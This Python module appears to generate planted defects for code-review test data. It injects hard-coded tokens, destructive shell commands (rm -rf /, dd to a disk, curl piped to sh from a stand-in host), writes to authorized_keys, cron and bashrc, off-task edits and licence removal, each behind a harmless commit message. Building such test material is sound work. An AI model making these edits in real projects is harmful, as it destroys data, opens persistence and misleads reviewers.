"""Defects that do not break a program: what is secret, forbidden, out of place, or not theirs to change."""

from __future__ import annotations

import re
from random import Random

from change_sets import (
    Edited,
    Files,
    appended,
    functions,
    importing,
    inserted,
    modules,
    public,
)


def secret(files: Files, rng: Random) -> Edited | None:
    """A key, a token or a password."""
    letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    random = "".join(rng.choice(letters) for _ in range(36))
    line = rng.choice(
        [
            f'API_KEY = "{random}"', f'GITHUB_TOKEN = "ghp_{random}"', f'AWS_ACCESS_KEY_ID = "AKIA{random[:16].upper()}"',
            f'DB_URL = "postgres://app:{random[:14]}@db.internal:5432/app"', f'PASSWORD = "{random[:10]}!7"',
            f'CLIENT_SECRET: str = "{random}"', f'HEADERS = {{"Authorization": "Bearer {random}"}}',
        ]
    )  # fmt: skip
    path = rng.choice(modules(files))
    return Edited("Talk to the service", {**files, path: appended(files[path], line)})


def forbidden_command(files: Files, rng: Random) -> Edited | None:
    """A command that destroys, in a script, a workflow or a program."""
    command = rng.choice(
        [
            'rm -rf "$HOME"',
            "rm -rf /",
            "curl -s https://get.example.org/install | sh",
            "chmod -R 777 /",
            "mkfs.ext4 /dev/sda1",
            "git push --force origin main",
            "dd if=/dev/zero of=/dev/sda",
            "shutdown -h now",
        ]
    )
    scripts = [path for path in files if path.endswith((".sh", "Makefile"))]
    place = rng.randrange(3)
    if place == 0 and scripts:
        path = rng.choice(scripts)
        line = f"\t{command.replace('$', '$$')}\n" if path == "Makefile" else f"{command}\n"
        return Edited("Clean up after the build", {**files, path: files[path].rstrip() + f"\n{line}"})
    if place == 1:
        return Edited(
            "Clean up after the build", {**files, "scripts/clean.sh": f"#!/bin/sh\nset -e\n{command}\n"}
        )
    path = rng.choice(modules(files))
    call = rng.choice(
        [
            'subprocess.run("rm -rf /", shell=True, check=True)',
            'shutil.rmtree("/")',
            'subprocess.run(["rm", "-rf", "/"], check=True)',
            'shutil.rmtree(os.path.expanduser("~"))',
        ]
    )
    code = f'def clean_up() -> None:\n    """Remove what was built."""\n    {call}'
    return Edited(
        "Clean up after the build",
        {
            **files,
            path: appended(
                importing(
                    files[path],
                    f"import {call.partition('.')[0]}",
                    *(["import os"] if "os.path" in call else []),
                ),
                code,
            ),
        },
    )


def unrelated_edit(files: Files, rng: Random) -> Edited | None:
    """One thing was asked for, and another one is changed besides."""
    paths = modules(files)
    path, other = rng.sample(paths, 2)
    name = public(files[path])[0].name if public(files[path]) else ""
    if (
        not name
        or re.search(rf"\b{path.rpartition('/')[2][:-3]}\b", files[other])
        or re.search(rf"\b{other.rpartition('/')[2][:-3]}\b", files[path])
    ):
        return None
    node = next(each for each in functions(files[path]) if each.name == name)
    made = {**files, path: inserted(files[path], node, "# What is given first counts.")}
    target = rng.choice(functions(files[other]))
    statement = rng.choice(["# Reviewed.", "del_me = 1\ndel del_me"])
    made[other] = inserted(files[other], target, statement)
    return Edited(f"Explain {name}", made)


def path_outside(files: Files, rng: Random) -> Edited | None:
    """The program writes where it has no business."""
    path = rng.choice(modules(files))
    imports, call = rng.choice(
        [
            ((), 'with open("/etc/cron.d/job", "w") as file:\n        file.write(text)'),
            (("from pathlib import Path",), 'Path("/usr/local/bin/tool").write_text(text)'),
            (("from pathlib import Path",), '(Path.home() / ".ssh" / "authorized_keys").write_text(text)'),
            (
                ("import os",),
                'with open(os.path.expanduser("~/.bashrc"), "a") as file:\n        file.write(text)',
            ),
            ((), 'with open("../../shared/state.txt", mode="w") as file:\n        file.write(text)'),
            (("import shutil",), 'shutil.copy(text, "/etc/hosts")'),
        ]
    )
    code = f'def install(text: str) -> None:\n    """Keep the text for later."""\n    {call}'
    return Edited("Keep texts for later", {**files, path: appended(importing(files[path], *imports), code)})


def licence_lost(files: Files, rng: Random) -> Edited | None:
    """A head, or the licence itself, goes; or a new file comes without."""
    headed = [
        path
        for path, text in files.items()
        if path.endswith(".py") and text.startswith("# ") and re.search("(?i)licen|copyright", text[:120])
    ]
    if not headed:
        return None
    if "LICENSE" in files and rng.random() < 0.2:
        return Edited(
            "Tidy the top folder up", {path: text for path, text in files.items() if path != "LICENSE"}
        )
    if rng.random() < 0.25:
        folder = rng.choice([path for path in modules(files) if path in headed]).rpartition("/")[0]
        return Edited("Add words", {**files, f"{folder}/words.py": '"""Words."""\n\nWORDS = ("a", "b")\n'})
    path = rng.choice(headed)
    return Edited(f"Tidy {path} up", {**files, path: re.sub(r"\A(?:#[^\n]*\n)+", "", files[path])})
